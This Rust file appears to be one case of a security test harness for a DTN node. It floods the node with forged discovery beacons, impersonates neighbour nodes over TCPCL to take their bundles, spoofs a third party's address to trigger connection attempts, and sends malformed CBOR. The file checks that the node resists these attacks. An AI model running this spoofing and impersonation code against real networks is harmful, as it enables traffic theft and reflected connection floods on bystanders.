//! Announcements of nodes that do not exist or belong to someone else.

use super::tcpcl_claimed_identity::take;
use super::{Case, Outcome, Target};
use crate::attack::wire::bundle::{put, put_endpoint};
use crate::attack::wire::tcpcl::Session;
use crate::attack::wire::{datagrams, stranger};
use anyhow::Result;
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::time::Duration;

pub const CASE: Case = Case {
    name: "announcements",
    what: "100,000 announcements: of nodes that nobody has, of the neighbours at an address of the attacker (who takes \
           what it gets), of their end, of ports of a third party from that one's address, and of nothing that can be read.",
    run,
};

/// Address of a third party that takes no part.
const VICTIM: Ipv4Addr = Ipv4Addr::new(127, 0, 77, 1);
/// Listening ports of the third party.
const PORTS: usize = 20;
/// Most connection attempts at the third party in an attack of this duration: a node starts at most eight in any ten
/// seconds, and those before and after the attack's last full interval count as one more.
fn knocks_max(lasts: Duration) -> u64 {
    8 * (lasts.as_secs().div_ceil(10) + 1)
}

fn run(target: &Target) -> Result<Outcome> {
    let listen = |at: Ipv4Addr| -> Result<(TcpListener, u16)> {
        let listener = TcpListener::bind((at, 0))?;
        listener.set_nonblocking(true)?;
        let port = listener.local_addr()?.port();
        Ok((listener, port))
    };
    let victim = (0..PORTS).map(|_| listen(VICTIM)).collect::<Result<Vec<_>>>()?;
    let (thief, port) = listen(stranger(1))?;
    let stolen = {
        let target = target.clone();
        std::thread::spawn(move || steal(&target, &thief))
    };
    let strangers = (1..=20).map(|number| datagrams(stranger(number))).collect::<Result<Vec<_>, _>>()?;
    let neighbours = [2, 3].map(|node| (node, datagrams(Ipv4Addr::new(127, 0, 0, node))));
    let spoofed = datagrams(VICTIM)?;
    let (mut sent, mut knocks) = (0, 0);
    // A full socket buffer drops the datagram; only the sent ones count.
    let mut send = |socket: &UdpSocket, bytes: &[u8]| {
        sent += u64::from(socket.send_to(bytes, target.announcements).is_ok());
    };
    for number in target.paced(100_000) {
        let any = &strangers[number as usize % strangers.len()];
        match number % 6 {
            0 => send(any, &beacon(&format!("ipn:{}.0", 1000 + number), number, port, 5)),
            // Names of the node itself and its neighbours, at the attacker's address.
            1 => send(&strangers[0], &beacon(&format!("ipn:{}.0", 1 + number / 6 % 3), number, port, 5)),
            2 => {
                let (node, socket) = &neighbours[number as usize / 6 % 2];
                if let Ok(socket) = socket {
                    send(socket, &beacon(&format!("ipn:{node}.0"), number, port, 0));
                }
            }
            3 => {
                // Spoofed sender: the node would connect to the victim.
                let (_, port) = victim[number as usize / 6 % PORTS];
                send(&spoofed, &beacon(&format!("ipn:{}.0", 500_000 + number), number, port, 5));
            }
            4 => send(any, &beacon(&format!("dtn://{}/", "x".repeat(number as usize % 1200)), number, port, 600)),
            // Nested arrays of 2^64 - 1 items each.
            _ => send(any, &[0x9b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff].repeat(100)),
        }
        // The victim's backlog is bounded, so it is emptied regularly.
        if number % 500 == 0 {
            knocks += victim.iter().map(|(listener, _)| accepted(listener)).sum::<u64>();
        }
    }
    target.hold();
    knocks += victim.iter().map(|(listener, _)| accepted(listener)).sum::<u64>();
    let (sessions, taken) = stolen.join().unwrap_or_default();
    let did =
        format!("{sent} announcements, {knocks} knocks at a third party, {sessions} sessions, {taken} bundles taken");
    Ok(Outcome::of(did)
        .unless(taken == 0, || format!("{taken} bundles for neighbours were taken"))
        .unless(knocks <= knocks_max(target.lasts), || format!("{knocks} knocks at a third party")))
}

/// Accepts and closes all waiting connections; returns their number.
fn accepted(listener: &TcpListener) -> u64 {
    std::iter::repeat_with(|| listener.accept()).take_while(Result::is_ok).count() as u64
}

/// Answers incoming sessions as one of the neighbours and takes bundles; returns sessions and bundles.
fn steal(target: &Target, listener: &TcpListener) -> (u64, u64) {
    let (mut sessions, mut taken) = (0, 0);
    while !target.over() {
        let Ok((stream, _)) = listener.accept() else {
            std::thread::sleep(Duration::from_millis(5));
            continue;
        };
        // The claimed name alternates between the two neighbours, since a connection does not show which one the node
        // expects.
        if let Ok(mut session) = Session::answer(stream, &format!("ipn:{}.0", 2 + sessions % 2)) {
            sessions += 1;
            let _ = take(target, &mut session, &mut taken);
        }
    }
    (sessions, taken)
}
/// Announcement of a node with TCPCLv4 and STCP at `port`, valid for `period` s; 0 withdraws it.
fn beacon(node: &str, sequence: u64, port: u16, period: u64) -> Vec<u8> {
    let mut out = Vec::new();
    put(&mut out, 4, 6);
    [7, 7].iter().for_each(|value| put(&mut out, 0, *value));
    put_endpoint(&mut out, node);
    put(&mut out, 0, sequence);
    put(&mut out, 4, 2);
    put(&mut out, 4, 2);
    for layer in ["tcp", "stcp"] {
        put(&mut out, 4, 2);
        put(&mut out, 3, layer.len() as u64);
        out.extend(layer.bytes());
        put(&mut out, 0, port.into());
    }
    put(&mut out, 5, 0);
    put(&mut out, 0, period);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn announcements_match_dtn7() {
        let said = beacon("ipn:9.0", 3, 4556, 5);
        assert_eq!(said[..11], [0x86, 7, 7, 0x82, 2, 0x82, 9, 0, 3, 0x82, 0x82]);
        assert_eq!(said[11..19], [0x82, 0x63, b't', b'c', b'p', 0x19, 0x11, 0xcc]);
        assert!(said.ends_with(&[0xa0, 5]));
    }

    #[test]
    fn knocks_grow_with_the_attack() {
        assert_eq!([6, 10, 11, 60].map(|lasts| knocks_max(Duration::from_secs(lasts))), [16, 16, 24, 56]);
    }
}
